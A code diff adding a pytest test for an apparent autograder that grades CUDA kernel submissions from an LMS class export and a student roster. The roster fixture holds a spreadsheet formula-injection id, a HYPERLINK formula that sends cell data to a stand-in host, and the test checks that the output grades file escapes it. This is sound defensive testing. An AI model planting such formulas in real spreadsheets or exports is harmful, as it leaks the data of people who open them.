@@ -104,3 +104,35 @@ def test_moodle_team_submissions(lesson, tmp_path):
     assert set(found) == {"42", "Default group"}
     assert (found["42"].name, found["42"].layout) == ("Team Ψ", "moodle")
     assert found["Default group"].kind == "kernel"
+
+
+@pytest.mark.cuda
+def test_an_lms_export_graded_on_the_gpu(tmp_path):
+    """The layouts above in one class export, graded with --runner cuda (in the sandbox where it
+    can run): each id read as its LMS wrote it, the GPU named in every row, and a roster id that
+    is a formula written as text."""
+    import csv
+    from generator.checker.sandbox import sandbox_problem
+    from generator.grade.run import GradeOptions, grade
+    from tests.conftest import small_lesson_copy
+    content = small_lesson_copy(tmp_path, ["seed", "tail_257", "special_f32"])
+    lesson = load_lesson(content, "lesson03_relu")
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as archive:
+        for name, fill in (("anon_Gc8Xh_394803490_relu.py", ANSWER), ("jonesamy_late_334245_1001_relu.py", "xv"),
+                           ("José Ñúñez_1084_assignsubmission_file/relu.py", ANSWER),
+                           ("José Ñúñez_1084_assignsubmission_onlinetext/onlinetext.html", None)):
+            archive.writestr(name, kernel(lesson, fill) if fill else "<p>notes</p>")
+    (tmp_path / "export.zip").write_bytes(data.getvalue())
+    (tmp_path / "roster.csv").write_text('id,name,locale,aliases\n"=HYPERLINK(""http://x/?""&A1,""open"")",'
+                                         'Eve,en,Gc8Xh\n', encoding="utf-8")
+    options = GradeOptions(tmp_path / "export.zip", "lesson03_relu", content=content, out=tmp_path / "out",
+                           build=tmp_path / "build", roster=tmp_path / "roster.csv", runner="cuda", jobs=2,
+                           sandbox="on" if sandbox_problem() is None else "off")
+    outcome = grade(options, progress=print)
+    rows = {r.student: r for r in outcome.rows}
+    assert set(rows) == {'=HYPERLINK("http://x/?"&A1,"open")', "334245", "1084"}
+    assert "late" in rows["334245"].flags and rows["1084"].automatic == 3
+    table = list(csv.DictReader((tmp_path / "out" / "grades.csv").open(encoding="utf-8", newline="")))
+    assert [r["student_id"] for r in table[1:]] == ["1084", "334245", "'=HYPERLINK(\"http://x/?\"&A1,\"open\")"]
+    assert all(r["device"] and "CPU" not in r["device"] for r in table[1:]), table
